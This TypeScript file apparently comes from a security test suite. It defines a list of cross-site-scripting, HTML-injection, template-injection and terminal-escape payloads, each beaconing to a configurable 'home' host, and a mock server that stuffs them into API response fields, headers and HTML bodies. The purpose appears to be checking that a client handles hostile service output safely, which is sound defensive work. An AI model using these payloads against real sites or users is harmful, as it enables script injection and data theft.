import { http, startWireServer, type WireServer } from "../hostile/wire-server.ts";

/** What takes over a page that shows it as markup: each calls home, and leaves a mark in the window. */
export function payloads(home: string): readonly string[] {
  const script = `window.owned=1;fetch('${home}/script');new Image().src='${home}/image'`;
  return [
    `<script>${script}</script>`,
    `</script><script>${script}</script>`,
    `--></textarea></style></title><img src=x onerror="${script}">`,
    `<svg/onload="${script}">`,
    `<iframe srcdoc="<script>parent.window.owned=1;fetch('${home}/frame')</script>"></iframe>`,
    `<img src="${home}/image.png"><link rel=stylesheet href="${home}/style.css">`,
    `<style>@import url(${home}/import.css);*{background:url(${home}/background.png)}</style>`,
    `<meta http-equiv="refresh" content="0;url=${home}/refresh"><base href="${home}/">`,
    `<form action="${home}/form"><button autofocus onfocus="${script}">pay</button></form>`,
    `<a href="javascript:${script}">click</a> [click](javascript:${encodeURIComponent(script)})`,
    `![x](${home}/markdown.png) {{constructor.constructor('${script.replaceAll("'", '"')}')()}} \${${script}}`,
    `"><input onfocus="${script}" autofocus><!--`,
    "\u202e\u0007\u001b]0;owned\u0007\u001b[2J\0",
  ];
}

/** A service of intents that puts these texts wherever it writes text: ids, descriptions, names, messages, headers. */
export function startHostileTarget(home: string): Promise<WireServer> {
  const texts = payloads(home);
  let turn = 0;
  const next = (): string => texts[turn++ % texts.length] ?? "";
  return startWireServer({
    onRequest: (socket, { right }) => {
      const body = JSON.parse(right.body.toString()) as Record<string, unknown>;
      const spoiled = {
        ...body,
        ...(typeof body["id"] === "string" ? { id: `pi_${next()}` } : {}),
        description: next(),
        metadata: { [next()]: next() },
        message: next(),
        [next()]: next(),
      };
      const text = JSON.stringify(spoiled);
      const isJson = turn % 3 !== 0;
      const content = isJson ? text : `<html><body>${texts.join("\n")}</body></html>`;
      const header = next().replace(/[\0-\x1f\x7f-\uffff]/g, "");
      socket.write(
        http({
          status: right.status,
          headers: [
            `content-type: ${isJson ? "application/json" : "text/html"}`,
            `x-hostile: ${header}`,
            `link: <${home}/preload.js>; rel=preload; as=script`,
            `refresh: 0; url=${home}/header`,
            `content-length: ${Buffer.byteLength(content)}`,
          ],
          body: content,
        }),
      );
    },
  });
}
